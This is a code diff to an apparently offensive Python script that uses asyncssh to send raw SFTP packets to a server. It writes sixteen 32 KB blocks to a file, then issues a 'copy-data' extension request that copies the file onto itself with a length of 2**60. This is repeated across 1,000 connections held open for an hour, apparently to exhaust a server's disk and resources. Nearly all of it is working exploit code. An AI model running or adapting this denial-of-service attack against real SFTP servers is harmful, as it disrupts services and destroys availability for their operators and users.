@@ -24,6 +24,7 @@ from calypso.settings import Settings
 FIRST = String(bytes(4))  # the handle that a session gives first
 THEIRS = "inbox/attack.part"
 READS = 60_000
+BLOCKS = 16  # of 32 KB: more than a server copies at a time, which stops where it reads less
 CONNECTIONS = 1_000
 
 
@@ -45,8 +46,9 @@ async def session(connection: asyncssh.SSHClientConnection) -> Any:
 async def copy_onto_itself(connect: Callable[[], Any], _: int) -> None:
     async with connect() as connection:
         channel = await session(connection)
-        channel.write(packet(FXP_WRITE, UInt32(1), FIRST, UInt64(0), String(bytes(32768))))
-        where = FIRST, UInt64(0), UInt64(2**60), FIRST, UInt64(32768)
+        for number in range(BLOCKS):
+            channel.write(packet(FXP_WRITE, UInt32(1), FIRST, UInt64(number * 32768), String(bytes(32768))))
+        where = FIRST, UInt64(0), UInt64(2**60), FIRST, UInt64(BLOCKS * 32768)
         channel.write(packet(FXP_EXTENDED, UInt32(2), String("copy-data"), *where))
         await asyncio.sleep(3600)
 
